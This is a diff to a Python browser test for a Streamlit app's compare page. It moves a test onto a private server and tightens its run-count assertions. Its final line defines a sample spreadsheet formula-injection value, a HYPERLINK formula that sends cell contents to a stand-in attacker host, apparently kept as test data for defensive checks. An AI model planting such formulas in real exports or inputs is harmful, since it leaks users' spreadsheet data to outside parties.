@@ -51,12 +51,16 @@ def _runs_caption(page) -> tuple[int, int]:
     return int(shown), int(total)
 
 
-def test_baseline_and_sweep_results_appear_without_navigating(streamlit_server, page, output_dir):
-    """A finished background job updates the page by itself (ui.watch_jobs)."""
+def test_baseline_and_sweep_results_appear_without_navigating(private_server, page, output_dir):
+    """A finished background job updates the page by itself (ui.watch_jobs).
+
+    On a server of its own: on the shared one, a run that another test's job stored while
+    this one waited was counted with this test's (CI: 2 runs where 1 was expected)."""
+    streamlit_server = private_server
     page.goto(f"{streamlit_server}/compare")
     wait_for_app(page)
-    has_runs = page.get_by_text(re.compile(r"of \d+ runs\.")).count() > 0
-    before = _runs_caption(page) if has_runs else (0, 0)
+    page.get_by_role("tab", name="Classical baselines").wait_for()
+    assert page.get_by_text(re.compile(r"of \d+ runs\.")).count() == 0
 
     page.get_by_role("tab", name="Classical baselines").click()
     size = page.locator(".st-key-compare_baseline_train_size input")
@@ -70,7 +74,7 @@ def test_baseline_and_sweep_results_appear_without_navigating(streamlit_server, 
     )
     wait_for_app(page)
     page.get_by_role("tab", name="Runs").click()
-    assert _runs_caption(page)[1] == before[1] + 1
+    assert _runs_caption(page) == (1, 1)
     assert page_errors(page) == []
 
     page.get_by_role("tab", name="Sweep").click()
@@ -92,7 +96,7 @@ def test_baseline_and_sweep_results_appear_without_navigating(streamlit_server, 
     assert page_errors(page) == []
     page.screenshot(path=str(output_dir / "compare-sweep-results.png"), full_page=True)
     page.get_by_role("tab", name="Runs").click()
-    assert _runs_caption(page)[1] == before[1] + 3
+    assert _runs_caption(page) == (3, 3)
 
 
 HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1, "click")'
